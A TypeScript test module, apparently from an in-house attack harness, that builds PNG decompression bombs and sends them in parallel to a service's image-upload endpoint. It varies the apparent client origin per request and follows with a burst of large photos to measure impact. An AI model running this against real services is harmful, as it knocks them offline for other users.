import { deflateSync } from "node:zlib"
import sharp from "sharp"
import { apiCaller } from "@adapters/http-client/testing"
import { StartBusinessDetails } from "@application/signup/contract"
import { eachOf, type Outcome, outcomeOf, type Target } from "./target.ts"
import { withBystander } from "./bystander.ts"
import { faultOf, fromSomewhere, send } from "./send.ts"

const crcTable = Array.from({ length: 256 }, (_, byte) => {
  let crc = byte
  for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1
  return crc >>> 0
})
const crcOf = (bytes: Uint8Array): number => {
  let crc = 0xffffffff
  for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 255] ?? 0) ^ (crc >>> 8)
  return (crc ^ 0xffffffff) >>> 0
}
const chunk = (type: string, data: Uint8Array): Buffer => {
  const named = Buffer.concat([Buffer.from(type, "latin1"), data])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.length, 0)
  frame.writeUInt32BE(crcOf(named), 4)
  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)])
}

/** A small file that decompresses to a black greyscale picture of this size. */
const pngOf = (width: number, height: number): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 8
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc((width + 1) * height), { level: 9 })),
    chunk("IEND", Buffer.alloc(0)),
  ])
}

const photo = (): Promise<Buffer> =>
  sharp({
    create: {
      width: 4000,
      height: 3000,
      channels: 3,
      background: "#888",
      noise: { type: "gaussian", mean: 128, sigma: 20 },
    },
  })
    .jpeg({ quality: 70 })
    .toBuffer()

/** Uploads pictures that cost far more to decompress than to send, then twenty ordinary photographs at once. */
export const attackPictures = async (target: Target): Promise<ReadonlyArray<Outcome>> => {
  const { note, outcome } = outcomeOf("pictures")
  const bombs = [pngOf(1, 39_999_999), pngOf(39_999_999, 1), pngOf(6_300, 6_300)]
  const bystander = await withBystander("pictures", target, async () => {
    const upload = async (index: number, bytes: Buffer, isBomb: boolean) => {
      const { sessionId } = await apiCaller(target.origin, fromSomewhere(index)).ask(StartBusinessDetails, {
        region: "IN",
        name: "Attacked",
      })
      const body = JSON.stringify({
        SessionId: sessionId,
        TemplateId: "spotlight",
        ImageType: 1,
        ImageName: "picture",
        ImageFile: { name: "picture", content: bytes.toString("base64") },
      })
      const headers = { "content-type": "application/json", "x-portal-domain": "localhost", ...fromSomewhere(index) }
      const sent = { method: "POST", path: "/api/v1.0/LocalBusiness/UploadImage", headers, body }
      const answer = await send(target.origin, sent, 60_000).catch(String)
      if (typeof answer === "string") note(answer)
      else note(isBomb && answer.status < 400 ? `a bomb answered ${answer.status}` : faultOf(answer))
    }
    const jobs = [
      ...Array.from({ length: 12 }, (_, at) => bombs[at % 2] ?? Buffer.alloc(0)).map((bytes) => ({
        bytes,
        isBomb: true,
      })),
      ...Array.from({ length: 4 }, () => ({ bytes: bombs[2] ?? Buffer.alloc(0), isBomb: false })),
    ]
    await eachOf(jobs.entries(), 6, ([index, { bytes, isBomb }]) => upload(1_000 + index, bytes, isBomb))
    const photoBytes = await photo()
    await eachOf(Array.from({ length: 20 }).entries(), 20, ([index]) => upload(2_000 + index, photoBytes, false))
  })
  return [outcome(), bystander]
}
